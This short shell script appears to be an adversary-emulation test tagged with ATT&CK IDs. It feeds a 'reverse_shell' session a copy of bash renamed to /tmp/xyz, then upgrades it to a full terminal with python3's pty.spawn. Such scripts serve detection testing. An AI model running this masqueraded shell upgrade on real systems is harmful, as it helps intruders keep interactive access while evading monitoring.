# A copy of bash under another name, started by pty.spawn.
# ATT&CK: T1059.006, T1059.004, T1036.003
. ./session.sh
reverse_shell <<'TYPED'
cp /bin/bash /tmp/xyz
python3 -c 'import pty; pty.spawn("/tmp/xyz")'
id
tty
exit
exit
TYPED
